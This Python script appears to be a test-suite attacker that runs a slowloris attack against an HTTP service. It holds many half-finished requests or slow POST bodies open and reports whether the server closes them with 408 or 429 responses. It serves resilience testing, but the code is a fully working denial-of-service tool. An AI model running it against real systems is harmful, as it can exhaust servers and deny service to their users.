"""Attacker for attack 6 of issue 32 (slowloris), run as its own process against an HTTP service.

    python slowloris.py URL [--count 300] [--source 127.0.0.2] [--wait 15] [--slow-body PATH]

Opens ``count`` TCP connections from ``source`` and sends on each the start of a request head
that never ends (``GET / HTTP/1.1``, a Host, half a header line). Prints ``{"opened": n}``, then
watches every socket for up to ``wait`` seconds and prints one JSON line: how many the victim
closed, what status line each got first (``408``, ``429``, or ``null`` for none), and when (in
seconds after the last one was opened) the first and last were closed. With ``--slow-body PATH``
each connection instead sends a whole ``POST PATH`` head announcing a 100,000-byte body, and 10
bytes of it.
"""

from __future__ import annotations

import argparse
import json
import selectors
import socket
import time
from collections import Counter
from urllib.parse import urlsplit


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("url")
    parser.add_argument("--count", type=int, default=300)
    parser.add_argument("--source", default="127.0.0.2")
    parser.add_argument("--wait", type=float, default=15.0)
    parser.add_argument("--slow-body", default=None, metavar="PATH")
    args = parser.parse_args()
    parts = urlsplit(args.url)
    head = f"GET / HTTP/1.1\r\nHost: {parts.hostname}:{parts.port}\r\nX-Slow: ".encode()
    if args.slow_body:
        head = (f"POST {args.slow_body} HTTP/1.1\r\nHost: {parts.hostname}:{parts.port}\r\n"
                "Content-Type: application/msgpack\r\nContent-Length: 100000\r\n\r\n").encode() + bytes(10)
    socks: list[socket.socket] = []
    for _ in range(args.count):
        try:
            s = socket.create_connection((parts.hostname, parts.port), timeout=5, source_address=(args.source, 0))
            s.sendall(head)
        except OSError:
            break
        s.setblocking(False)
        socks.append(s)
    opened = time.monotonic()
    print(json.dumps({"opened": len(socks)}), flush=True)

    sel = selectors.DefaultSelector()
    got: dict[int, bytes] = {}
    closed_at: dict[int, float] = {}
    for i, s in enumerate(socks):
        sel.register(s, selectors.EVENT_READ, i)
        got[i] = b""
    deadline = opened + args.wait
    while len(closed_at) < len(socks) and time.monotonic() < deadline:
        for key, _ in sel.select(timeout=max(0.0, min(0.5, deadline - time.monotonic()))):
            i, s = key.data, key.fileobj
            try:
                chunk = s.recv(4096)  # type: ignore[union-attr]
            except BlockingIOError:
                continue
            except OSError:
                chunk = b""
            if chunk:
                got[i] += chunk
                continue
            closed_at[i] = time.monotonic() - opened
            sel.unregister(s)
    for s in socks:
        s.close()
    sel.close()
    statuses = Counter(str(int(got[i].split(b" ", 2)[1])) if got[i].startswith(b"HTTP/1.") else None
                       for i in range(len(socks)))
    by_status: dict[str, list[float]] = {}
    for i, at in closed_at.items():
        code = got[i].split(b" ", 2)[1].decode() if got[i].startswith(b"HTTP/1.") else "none"
        by_status.setdefault(code, []).append(at)
    print(json.dumps({"opened": len(socks), "closed_by_victim": len(closed_at),
                      "statuses": {str(k): v for k, v in statuses.items()},
                      "closed_after_s": {k: [round(min(v), 2), round(max(v), 2)] for k, v in by_status.items()},
                      "reason_408": next((got[i].split(b"\r\n\r\n", 1)[-1].decode(errors="replace").strip()
                                          for i in got if got[i].startswith(b"HTTP/1.1 408")), None)}), flush=True)


if __name__ == "__main__":
    main()
